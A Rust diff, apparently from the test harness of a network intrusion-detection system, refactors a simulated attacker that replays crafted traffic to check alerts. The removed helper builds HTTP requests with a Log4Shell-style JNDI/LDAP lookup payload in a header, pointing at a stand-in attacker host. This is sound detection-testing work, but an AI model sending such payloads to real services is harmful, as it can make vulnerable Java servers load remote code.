@@ -9,11 +9,8 @@ use std::sync::{Mutex, PoisonError};
 use std::time::{Duration, Instant};
 
 use serde_json::Value;
-use traffic::example::cluster;
-use traffic::payload::http::{self, Request};
-use traffic::{Random, Side, TcpSession, Track};
 
-use crate::common::live::{Net, write_capture};
+use crate::common::live::{Net, attacks, write_capture};
 use crate::common::{port, sid};
 
 /// The rule that tells of each.
@@ -57,7 +54,7 @@ impl Attacker {
                 return;
             }
             let ports = first..first + AT_ONCE;
-            write_capture(&capture, &connections(ports.clone(), self.server));
+            write_capture(&capture, &attacks(ports.clone(), self.server));
             let begin = Instant::now();
             let sent = net.send(&capture, 300);
             *self.packets.lock().unwrap_or_else(PoisonError::into_inner) += sent;
@@ -92,25 +89,6 @@ impl Drop for Stopper<'_> {
     fn drop(&mut self) {
         self.0.stop();
     }
-}
-
-/// The packets of one attack for each of the attacker's ports.
-pub(crate) fn connections(ports: Range<u16>, server: SocketAddr) -> Vec<traffic::Packet> {
-    let mut packets = Vec::new();
-    for port in ports {
-        let path = traffic::Path::new((cluster::outside::ATTACKER, port).into(), server);
-        let fields = [("X-Api-Version", "${jndi:ldap://203.0.113.66:1389/a}")];
-        let request = Request::get("shop.example", "/").fields(&fields).to_bytes();
-        let mut session = TcpSession::new(path, &mut Random::new(u64::from(port)));
-        let mut track = Track::new(0, 1);
-        session.open(&mut track).expect("in memory");
-        session.send(Side::Client, &request, &mut track).expect("in memory");
-        let answer = http::response("404 Not Found", "text/plain", b"nothing here\n");
-        session.send(Side::Server, &answer, &mut track).expect("in memory");
-        session.close(Side::Client, &mut track).expect("in memory");
-        packets.extend(track.into_packets());
-    }
-    packets
 }
 
 /// What is to hold of the alerts of one stretch of time.
